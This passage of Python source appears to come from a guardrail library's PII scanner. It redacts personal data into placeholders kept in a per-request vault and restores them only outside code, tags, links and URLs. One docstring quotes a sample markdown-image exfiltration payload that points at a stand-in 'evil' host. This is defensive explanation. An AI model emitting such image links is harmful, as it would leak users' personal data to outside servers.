                for m in found
                if m.kind not in _DIGIT_KINDS
                or not any(s <= m.start and m.end <= e for s, e in readable)
            ]
        found += decoded_hits
    return _merge(found)


def _merge(found: list[PiiMatch]) -> list[PiiMatch]:
    """Overlapping matches merged into one span (the higher-priority kind names it)."""
    out: list[PiiMatch] = []
    for m in sorted(found, key=lambda x: (x.start, -x.end)):
        if out and m.start < out[-1].end:
            last = out[-1]
            best = last if _PRIORITY[last.kind] <= _PRIORITY[m.kind] else m
            out[-1] = PiiMatch(
                best.kind, last.start, max(last.end, m.end), max(last.score, m.score)
            )
        else:
            out.append(m)
    return out


# --- redaction and the per-request vault ---------------------------------------------------

_VAULT_KEY = "guard.pii.vault"


class _Vault:
    """Placeholders of one request. Holds raw values only when reversible; its repr hides them."""

    __slots__ = ("_by_digest", "_counters", "_originals", "_salt")

    def __init__(self) -> None:
        self._salt = secrets.token_bytes(16)
        self._by_digest: dict[bytes, str] = {}
        self._counters: dict[str, int] = {}
        self._originals: dict[str, str] = {}

    def __repr__(self) -> str:
        return f"<pii vault: {len(self._by_digest)} placeholders>"

    def placeholder(self, kind: str, value: str, keep: bool) -> str:
        digest = hashlib.blake2b(
            f"{kind}\0{value}".encode(), key=self._salt, digest_size=16
        ).digest()
        name = self._by_digest.get(digest)
        if name is None:
            n = self._counters.get(kind, 0) + 1
            self._counters[kind] = n
            name = f"<{kind}_{n}>"
            self._by_digest[digest] = name
        if keep:
            self._originals[name] = value
        return name

    def original(self, placeholder: str) -> str | None:
        return self._originals.get(placeholder)


def _vault(ctx: ScanContext) -> _Vault:
    vault = ctx.state.get(_VAULT_KEY)
    if not isinstance(vault, _Vault):
        vault = _Vault()
        ctx.state[_VAULT_KEY] = vault
    return vault


def redact_pii(
    text: str, matches: list[PiiMatch], ctx: ScanContext, reversible: bool = False
) -> str:
    """Replace each match with its typed placeholder, numbered consistently per request."""
    vault = _vault(ctx)
    out: list[str] = []
    pos = 0
    for m in matches:
        out.append(text[pos : m.start])
        out.append(vault.placeholder(m.kind, text[m.start : m.end], reversible))
        pos = m.end
    out.append(text[pos:])
    return "".join(out)


_PLACEHOLDER = re.compile(r"<(?:" + "|".join(PII_KINDS) + r")_\d{1,6}>")
_ANY_PLACEHOLDER = re.compile(r"<(?:[A-Z]+(?:_[A-Z]+)*_\d{1,6}|SECRET:[a-z_]+)>")
# places in rendered markdown/HTML that are not running text: a value put back there would
# be fetched, linked or executed rather than shown
_FENCE = re.compile(r"(?m)^[ \t]{0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"`+")
_URL_TOKEN = re.compile(r"(?i)(?<![\w.+-])(?:[a-z][a-z0-9+.-]{1,31}:|//|www\.)\S+")
_REF_DEF = re.compile(r"(?m)^[ \t]{0,3}\[[^\]\n]{1,999}\]:[^\n]*(?:\n[ \t]+[^\n]*)?")
_CSS_URL_OPEN = re.compile(r"(?i)url\(")
_TAG_OPEN = re.compile(r"<[A-Za-z!?/]")


def _close_quoted(text: str, pos: int, close: str) -> int:
    """The index after the ``close`` character that ends a construct opened before ``pos``,
    skipping quoted strings; the end of the text when it never closes (fail closed)."""
    n = len(text)
    quote = ""
    depth = 0
    while pos < n:
        ch = text[pos]
        if quote:
            if ch == quote:
                quote = ""
        elif ch in "\"'" and close == ">":
            quote = ch
        elif close == ")" and ch == "(":
            depth += 1
        elif ch == close:
            if depth == 0:
                return pos + 1
            depth -= 1
        pos += 1
    return n


def _protected(text: str) -> list[tuple[int, int]]:
    """Spans of ``text`` that are code, HTML tags, link destinations, reference definitions,
    URLs or CSS ``url()``: never places to put an original value back."""
    spans: list[tuple[int, int]] = []
    fences = list(_FENCE.finditer(text))
    i = 0
    while i < len(fences):
        opener = fences[i]
        j = i + 1
        while j < len(fences) and not fences[j].group(1).startswith(opener.group(1)[0] * 3):
            j += 1
        end = fences[j].end() if j < len(fences) else len(text)
        spans.append((opener.start(), end))
        i = j + 1
    if "`" in text:
        ticks = list(_CODE_SPAN.finditer(text))
        k = 0
        while k < len(ticks):
            close = next(
                (t for t in ticks[k + 1 :] if len(t.group()) == len(ticks[k].group())), None
            )
            if close is None:
                k += 1
                continue
            spans.append((ticks[k].start(), close.end()))
            k = ticks.index(close) + 1
    for m in _TAG_OPEN.finditer(text):
        if _ANY_PLACEHOLDER.match(text, m.start()):
            continue
        spans.append((m.start(), _close_quoted(text, m.end(), ">")))
    pos = text.find("](")
    while pos != -1:
        spans.append((pos, _close_quoted(text, pos + 2, ")")))
        pos = text.find("](", pos + 2)
    spans += [m.span() for m in _REF_DEF.finditer(text)]
    spans += [m.span() for m in _URL_TOKEN.finditer(text)]
    spans += [(m.start(), _close_quoted(text, m.end(), ")")) for m in _CSS_URL_OPEN.finditer(text)]
    return spans


def _restore_in(text: str, ctx: ScanContext, skip: int = 0) -> str:
    vault = ctx.state.get(_VAULT_KEY)
    if not isinstance(vault, _Vault) or "<" not in text:
        return text[skip:]
    blocked = sorted(_protected(text))
    starts = [s for s, _ in blocked]
    reach: list[int] = []
    for _, e in blocked:
        reach.append(max(e, reach[-1]) if reach else e)

    def _swap(m: re.Match[str]) -> str:
        i = bisect.bisect_right(starts, m.start()) - 1
        if i >= 0 and reach[i] > m.start():
            return m.group()  # inside code, a tag, a link target or a URL: left as is
        original = vault.original(m.group())
        return m.group() if original is None else original

    return _sub_from(text, skip, _swap)


def _sub_from(text: str, skip: int, swap: Callable[[re.Match[str]], str]) -> str:
    out: list[str] = []
    pos = skip
    for m in _PLACEHOLDER.finditer(text, skip):
        out.append(text[pos : m.start()])
        out.append(swap(m))
        pos = m.end()
    out.append(text[pos:])
    return "".join(out)


def restore(text: str, ctx: ScanContext) -> str:
    """Put back the originals of placeholders made reversibly in this request, only where
    the text is running text: never inside code, HTML tags (attributes included), markdown
    link or image destinations, reference definitions, URLs or CSS ``url()`` (restoring
    there would turn ``![](https://evil/?q=<EMAIL_1>)`` into exfiltration)."""
    return _restore_in(text, ctx)


_MAX_HELD = 8192  # a token longer than this without whitespace is passed on unrestored
_CONTEXT = 8192  # raw text kept from earlier chunks: a tag or fence opened there still counts


def restore_stream(chunks: Iterable[str], ctx: ScanContext) -> Iterator[str]:
    """:func:`restore` for streamed output: a placeholder or URL split across chunks is held
    back until its whitespace-delimited token is complete; a tag, code fence or link target
    opened in an earlier chunk still protects what follows it."""
    held = ""
    context = ""
    for chunk in chunks:
        held += chunk
        cut = max(held.rfind(" "), held.rfind("\n"), held.rfind("\t"))
        if cut == -1:
            if len(held) > _MAX_HELD:
                yield held  # placeholders in it stay placeholders: never wrongly restored
                context = (context + held)[-_CONTEXT:]
                held = ""
            continue
        ready, held = held[: cut + 1], held[cut + 1 :]
        yield _restore_in(context + ready, ctx, len(context))
        context = (context + ready)[-_CONTEXT:]
    if held:
        yield _restore_in(context + held, ctx, len(context))


def _mask(kind: str, value: str) -> str:
    if kind == "EMAIL":
        return "***@" + value.rpartition("@")[2]
    if kind in ("IP_ADDRESS", "MAC_ADDRESS"):
        return f"{kind.lower()} ({len(value)} chars)"
    digits = [ch for ch in value if ch.isalnum()]
    return f"***{''.join(digits[-2:])} ({len(digits)} chars)"


class PiiScanner(Scanner):
    """Flags PII; in ``redact`` mode replaces it with typed placeholders.

    Options: ``kinds`` (subset of :data:`PII_KINDS`), ``reversible`` (keep originals in the
    request so :func:`restore` can put them back in the output).
    """

    name: ClassVar[str] = "pii"
    default_mode: ClassVar[str] = "redact"
    directions: ClassVar[frozenset[Direction]] = frozenset(
        {
            Direction.INPUT,
            Direction.OUTPUT,
            Direction.DOCUMENT,
            Direction.TOOL_RESULT,
            Direction.SYSTEM,
        }
    )
    supports_redact: ClassVar[bool] = True

    option_names: ClassVar[frozenset[str]] = frozenset({"kinds", "reversible"})

    def __init__(self, threshold: float | None = None, **options: Any) -> None:
        super().__init__(threshold, **options)
        kinds = strings_option(self.name, options, "kinds") if "kinds" in options else None
        self.kinds = _ALL if kinds is None else frozenset(k.upper() for k in kinds)
        unknown = self.kinds - _ALL
        if unknown:
            raise PolicyError(
                f"guard scanner pii: unknown kinds {sorted(unknown)}: expected some of "
                + ", ".join(PII_KINDS)
            )
        self.reversible = bool(options.get("reversible", False))

    def scan(self, text: str, ctx: ScanContext) -> ScanResult:
        if ctx.direction is Direction.OUTPUT:
            matches = find_pii_deep(text, self.kinds)
        else:
            matches = find_pii(text, self.kinds)
        if not matches:
            return ScanResult(0.0)
        where = "in model output" if ctx.direction is Direction.OUTPUT else "in text"
        findings = tuple(
            Finding(
                rule_id=f"guard-pii-{m.kind.lower().replace('_', '-')}",
                title=f"{m.kind.replace('_', ' ').lower()} {where}",
                severity=_SEVERITY[m.kind],
                asset=ctx.route or "",
                location=Location(offset=m.start, pointer=ctx.direction.value),
                evidence=_mask(m.kind, text[m.start : m.end]),
                frameworks=FRAMEWORKS,
                remediation="Remove the personal data or enable redaction for this scanner.",
            )
            for m in matches
        )
        redacted = redact_pii(text, matches, ctx, self.reversible)
        return ScanResult(max(m.score for m in matches), findings, redacted)
